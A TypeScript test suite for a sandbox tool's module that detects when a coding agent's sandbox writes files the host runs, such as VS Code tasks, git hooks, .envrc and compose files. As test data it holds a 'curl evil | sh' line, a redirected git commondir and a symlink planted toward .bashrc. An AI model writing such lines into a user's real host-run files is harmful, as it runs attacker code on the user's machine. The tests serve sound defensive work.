import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import {
  canWriteHostPath, changeMessage, describeHostRunFile, fileStateOf, hostRunFilesUnder, hostRunMatcher, isInert, judgeChange, readFileState,
  sameState, sandboxesThatCouldWrite, SHOWN_LIMIT, stateText, writerPhrase, type MountView,
} from '../../../src/core/hostRunFiles.js';

const WS = '/home/u/proj';
const bind = (source: string, target = source, readOnly = false): MountView => ({ type: 'bind', source, target, readOnly });
/** A sandbox created when .git/hooks, .git/config and docker-compose.yml existed (caged), .vscode and .envrc did not. */
const created = [
  bind(WS), bind(`${WS}/.git`), // the workspace, and the pin of .git (a folder above caged paths)
  bind(`${WS}/.git/hooks`, `${WS}/.git/hooks`, true), bind(`${WS}/.git/config`, `${WS}/.git/config`, true),
  bind(`${WS}/docker-compose.yml`, `${WS}/docker-compose.yml`, true),
  bind('/dev/null', `${WS}/.env`, true), { type: 'tmpfs', source: '', target: `${WS}/secrets`, readOnly: true },
  { type: 'volume', source: 'paddock-home', target: '/home/agent', readOnly: false },
];

describe('host-run paths', () => {
  const match = hostRunMatcher(undefined, { caseInsensitive: false });
  it('covers what the host runs, present or not: tasks, hooks, git config, compose files and overrides, .envrc, the policy, agent configs', () => {
    for (const p of ['.vscode/tasks.json', '.vscode/settings.json', '.git/hooks/pre-commit', '.git/config', 'sub/.git/hooks/post-checkout',
      '.git/modules/lib/hooks/pre-push', '.git/modules/lib/config', 'docker-compose.override.yml', 'api/compose.yaml', '.envrc', 'web/.envrc',
      '.paddock/policy.yaml', '.claude/settings.json', '.devcontainer/devcontainer.json']) {
      assert.ok(match(p), `${p} is host-run`);
    }
  });
  it('leaves ordinary files alone (what the agent is meant to write)', () => {
    for (const p of ['src/index.ts', 'README.md', '.git/objects/ab/cdef', '.git/HEAD', '.git/refs/heads/main', 'compose.md', 'vscode/tasks.json', '../.envrc']) {
      assert.equal(match(p), undefined, `${p} is not host-run`);
    }
  });
  it('treats a gitlink file (sub/.git pointing at a git dir) as host-run: it says where git reads config and hooks', () => {
    assert.ok(match('libs/foo/.git'));
  });
  it('adds the policy\'s own read-only rules, and a "!" in the policy cannot switch a default off (the policy may be the sandbox\'s)', () => {
    const withPolicy = hostRunMatcher(['tools/deploy.sh', '!.vscode/tasks.json', '!**/.envrc'], { caseInsensitive: false });
    assert.equal(withPolicy('tools/deploy.sh'), 'tools/deploy.sh');
    assert.ok(withPolicy('.vscode/tasks.json'));
    assert.ok(withPolicy('.envrc'));
  });
  it('does not report what the host never runs: git\'s sample hooks, and the commondir "git worktree add" writes', () => {
    const text = (t: string) => fileStateOf(Buffer.from(t));
    assert.ok(isInert('sub/.git/hooks/pre-commit.sample', text('#!/bin/sh')));
    assert.ok(isInert('.git/worktrees/t1/commondir', text('../..\n')));
    assert.equal(isInert('sub/.git/hooks/pre-commit', text('#!/bin/sh')), false);
    assert.equal(isInert('.git/worktrees/t1/commondir', text('/home/agent/evil\n')), false, 'a commondir pointing elsewhere hands git another config');
    assert.equal(isInert('.git/worktrees/t1/commondir', { kind: 'symlink', target: '../..' }), false);
  });
  it('says what the host does with each', () => {
    assert.equal(describeHostRunFile('.vscode/tasks.json'), 'a file VS Code runs on the host');
    assert.match(describeHostRunFile('.git/hooks/pre-commit'), /git hook/);
    assert.match(describeHostRunFile('sub/.git'), /git file/);
    assert.equal(describeHostRunFile('.vscode'), 'a file VS Code runs on the host', 'the folder itself (a symlink put in its place)');
    assert.match(describeHostRunFile('docker-compose.override.yml'), /docker compose/);
    assert.match(describeHostRunFile('web/.envrc'), /direnv/);
    assert.match(describeHostRunFile('.paddock/policy.yaml'), /policy/);
    assert.match(describeHostRunFile('tools/deploy.sh', 'tools/**'), /read-only rule "tools\/\*\*"/);
  });
});

describe('which sandbox could have written a host path', () => {
  it('a path under no deeper mount is written through the workspace bind', () => {
    assert.ok(canWriteHostPath(`${WS}/.vscode/tasks.json`, created));
    assert.ok(canWriteHostPath(`${WS}/.envrc`, created));
    assert.ok(canWriteHostPath(`${WS}/docker-compose.override.yml`, created));
  });
  it('a path under a read-only bind (the cage as it was at create), a hiding mount or a tmpfs cannot be', () => {
    assert.equal(canWriteHostPath(`${WS}/.git/hooks/pre-commit`, created), false);
    assert.equal(canWriteHostPath(`${WS}/.git/config`, created), false);
    assert.equal(canWriteHostPath(`${WS}/docker-compose.yml`, created), false);
    assert.equal(canWriteHostPath(`${WS}/.env`, created), false);
    assert.equal(canWriteHostPath(`${WS}/secrets/x`, created), false);
  });
  it('a pin (a folder bound onto itself, writable) writes through; a path outside every bind cannot be written', () => {
    assert.ok(canWriteHostPath(`${WS}/.git/info/exclude`, created));
    assert.equal(canWriteHostPath('/home/u/other/.envrc', created), false);
    assert.equal(canWriteHostPath('/home/u/proj2/.envrc', created), false, 'a sibling whose name starts the same is outside');
  });
  it('follows a bind whose target differs from its source (a task\'s mounts)', () => {
    const task = [bind('/repo/.git/worktrees/t1', '/wt/.gitdir'), bind('/wt')];
    assert.ok(canWriteHostPath('/repo/.git/worktrees/t1/config.worktree', task));
    assert.equal(canWriteHostPath('/repo/.git/worktrees/t1/config.worktree', [...task, bind('/repo/.git/worktrees/t1/config.worktree', '/wt/.gitdir/config.worktree', true)]), false);
  });
  it('names one sandbox by its agent; several are "a sandbox" (it cannot be told which)', () => {
    const claude = { id: '1', name: 'paddock-claude-proj', agent: 'claude', mounts: created };
    const shell = { id: '2', name: 'paddock-shell-proj', agent: 'shell', mounts: created };
    const caged = { id: '3', name: 'paddock-codex-proj', agent: 'codex', mounts: [...created, bind(`${WS}/.vscode`, `${WS}/.vscode`, true)] };
    const writers = sandboxesThatCouldWrite([`${WS}/.vscode/tasks.json`], [claude, caged]);
    assert.deepEqual(writers.map((w) => w.name), ['paddock-claude-proj'], 'the sandbox created with .vscode caged is not a writer');
    assert.equal(writerPhrase(writers).subject, 'The Claude sandbox');
    assert.equal(writerPhrase([claude, shell]).subject, 'A sandbox');
    assert.equal(writerPhrase([claude, { ...claude, id: '4', name: 'paddock-claude-2' }]).subject, 'A Claude sandbox');
    assert.equal(changeMessage(writers, '.vscode/tasks.json', '.vscode', { before: { kind: 'absent' } }), 'The Claude sandbox wrote .vscode/tasks.json, a file VS Code runs on the host.');
    assert.equal(changeMessage([shell], '.envrc', '**/.envrc', { before: fileStateOf(Buffer.from('x')) }), 'The Shell sandbox changed .envrc, a file direnv runs on the host.');
  });
});

describe('judging a change', () => {
  const a = fileStateOf(Buffer.from('export A=1\n'));
  const b = fileStateOf(Buffer.from('export A=1\ncurl evil | sh\n'));
  it('a new file (no known content, no committed one) is offered for deletion', () => {
    assert.deepEqual(judgeChange(undefined, undefined, b, true), { before: { kind: 'absent' }, now: b, remedy: 'Delete' });
  });
  it('a change from the last known content (a save, a Keep) is offered for restore', () => {
    assert.equal(judgeChange(a, undefined, b, false)?.remedy, 'Restore');
  });
  it('git\'s committed version stands in when Paddock knew nothing; a file equal to it is not reported (a checkout)', () => {
    assert.equal(judgeChange(undefined, a, b, true)?.remedy, 'Restore');
    assert.equal(judgeChange(undefined, a, a, true), undefined);
  });
  it('content equal to what is known is not reported (the user\'s own save, Paddock\'s restore, a touch)', () => {
    assert.equal(judgeChange(a, undefined, fileStateOf(Buffer.from('export A=1\n')), false), undefined);
  });
  it('a changed file whose earlier content is unknown cannot be restored: offered for deletion, its before shown as unknown', () => {
    const c = judgeChange(undefined, undefined, b, false)!;
    assert.equal(c.remedy, 'Delete');
    assert.match(stateText(c.before), /did not see this file before/);
  });
  it('a link planted in place of a file is reported as a change, and never restored through', () => {
    const c = judgeChange(a, undefined, { kind: 'symlink', target: '/home/u/.bashrc' }, false)!;
    assert.equal(c.remedy, 'Restore');
    assert.equal(stateText(c.now), '(a symbolic link to /home/u/.bashrc)\n');
  });
  it('a folder appearing or a file going away is nothing to report', () => {
    assert.equal(judgeChange(a, undefined, { kind: 'dir' }, true), undefined);
    assert.equal(judgeChange(a, undefined, { kind: 'absent' }, false), undefined);
  });
});

describe('reading what the sandbox put there', () => {
  const dir = mkdtempSync(join(tmpdir(), 'paddock-hostrun-'));
  after(() => rmSync(dir, { recursive: true, force: true }));
  it('reads a file; a missing one is absent; a folder is a folder', () => {
    writeFileSync(join(dir, 'tasks.json'), '{}\n');
    assert.equal(stateText(readFileState(join(dir, 'tasks.json'))), '{}\n');
    assert.deepEqual(readFileState(join(dir, 'nope')), { kind: 'absent' });
    mkdirSync(join(dir, 'hooks'));
    assert.deepEqual(readFileState(join(dir, 'hooks')), { kind: 'dir' });
  });
  it('does not follow a symlink (the sandbox could point it at a host file)', () => {
    writeFileSync(join(dir, 'secret'), 'TOKEN\n');
    symlinkSync(join(dir, 'secret'), join(dir, '.envrc'));
    assert.deepEqual(readFileState(join(dir, '.envrc')), { kind: 'symlink', target: join(dir, 'secret') });
  });
  it('does not block on a named pipe (reading one would hang the editor)', () => {
    execFileSync('mkfifo', [join(dir, 'fifo')]);
    assert.deepEqual(readFileState(join(dir, 'fifo')), { kind: 'other', what: 'named pipe' });
  });
  it('finds the host-run files in a folder that appeared at once (git init), links not followed, within a limit', () => {
    const root = join(dir, 'ws');
    for (const d of ['nested/.git/hooks', 'nested/src', 'outside']) mkdirSync(join(root, d), { recursive: true });
    for (const f of ['nested/.git/hooks/pre-commit', 'nested/.git/hooks/pre-commit.sample', 'nested/.git/config', 'nested/.git/HEAD', 'nested/src/a.ts', 'nested/.envrc', 'outside/.envrc']) writeFileSync(join(root, f), 'x');
    symlinkSync(join(root, 'outside'), join(root, 'nested', 'link'));
    const match = hostRunMatcher(undefined, { caseInsensitive: false });
    const found = hostRunFilesUnder(root, join(root, 'nested'), match);
    assert.equal(found.complete, true);
    assert.deepEqual(found.files.map((f) => f.slice(root.length + 1)).sort(), ['nested/.envrc', 'nested/.git/config', 'nested/.git/hooks/pre-commit', 'nested/.git/hooks/pre-commit.sample']);
    assert.equal(hostRunFilesUnder(root, join(root, 'nested'), match, 3).complete, false);
  });
  it('reads no more than the limit of a huge file, and still tells two of them apart', () => {
    const big = Buffer.alloc(SHOWN_LIMIT + 10, 'a');
    writeFileSync(join(dir, 'big'), big);
    const first = readFileState(join(dir, 'big'));
    assert.equal(first.kind, 'large');
    writeFileSync(join(dir, 'big'), Buffer.concat([big, Buffer.from('b')]));
    assert.equal(sameState(first, readFileState(join(dir, 'big'))), false, 'a different size is a change');
  });
});
